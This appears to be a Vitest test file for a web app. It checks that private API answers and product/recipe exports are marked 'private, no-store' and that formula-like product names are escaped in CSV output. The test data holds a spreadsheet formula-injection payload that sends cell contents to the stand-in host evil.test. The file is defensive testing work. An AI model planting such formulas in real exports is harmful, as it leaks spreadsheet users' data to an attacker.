import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../test/harness.ts';

/** Answers that hold an account's or an organisation's data are never kept by a shared cache. */
let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

describe('private answers', () => {
  it('GET /api/me and the /api/files exports send Cache-Control: private, no-store; an exported product named like a formula is escaped', async () => {
    const owner = await t.signUp();
    const name = '=HYPERLINK("http://evil.test/?x="&A1,"clic")';
    const created = await t.request('POST', '/api/products', {
      cookie: owner.cookie,
      body: { name, per100g: { energyKcal: 100, fat: 1, carbs: 1, protein: 1 }, allergens: [], traces: [], labels: [] },
    });
    expect(created.status).toBe(201);
    const me = await t.request('GET', '/api/me', { cookie: owner.cookie });
    expect(me.headers.get('cache-control')).toBe('private, no-store');
    for (const path of [
      '/api/files/products/export?format=csv',
      '/api/files/products/export?format=xlsx',
      '/api/files/recipes/export?format=csv',
      '/api/files/products/template?format=csv',
    ]) {
      const res = await t.request('GET', path, { cookie: owner.cookie });
      expect(res.status, path).toBe(200);
      expect(res.headers.get('cache-control'), path).toBe('private, no-store');
    }
    const csv = await t.request('GET', '/api/files/products/export?format=csv', { cookie: owner.cookie });
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""clic"")"`);
    expect(csv.text).not.toMatch(/(^|;)"?=HYPERLINK/m);
  });
});
